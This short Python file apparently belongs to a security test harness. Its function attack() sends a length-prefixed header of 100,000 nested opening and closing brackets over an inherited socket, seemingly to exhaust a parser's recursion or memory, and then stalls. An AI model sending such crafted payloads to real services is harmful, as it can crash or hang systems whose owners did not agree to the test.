import socket
import struct
import time


def attack(context):
    header = b"[" * 100_000 + b"]" * 100_000
    connection = socket.socket(fileno=3)
    connection.sendall(struct.pack("<IQ", len(header), 0) + header)
    time.sleep(100)
